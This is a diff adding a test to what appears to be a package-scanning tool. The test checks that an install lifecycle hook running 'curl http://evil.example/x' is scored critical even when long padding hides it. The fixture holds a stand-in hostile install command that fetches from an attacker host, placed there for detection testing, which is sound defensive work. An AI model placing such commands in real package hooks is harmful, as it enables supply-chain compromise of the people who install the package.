@@ -143,6 +143,12 @@ def test_glob():
     assert T.glob("a/*.js") == r"^a/[^/]*\.js$" and T.glob("d/**") == "^d/.*$"
 
 
+def test_long_hooks_are_scored(spark):
+    pad = "echo padding; " * 1000
+    p = spark.createDataFrame([("front", {"install": f"curl http://evil.example/x {pad}"}), ("back", {"install": f"{pad} curl http://evil.example/x"})], "package string, scripts map<string,string>")
+    assert {r["package"]: (r["score"], r["severity"]) for r in D.lifecycle_rule(p).collect()} == {"front": (100.0, "critical"), "back": (100.0, "critical")}
+
+
 def test_simhash_classes_and_pairs_against_brute_force(spark):
     # Equal hashes of different texts: order of the words does not count.
     texts = {1: "a b c d", 2: "d c b a", 3: "b a d c", 4: "w x y z", 5: "z y x w", 6: "one two three four five"}
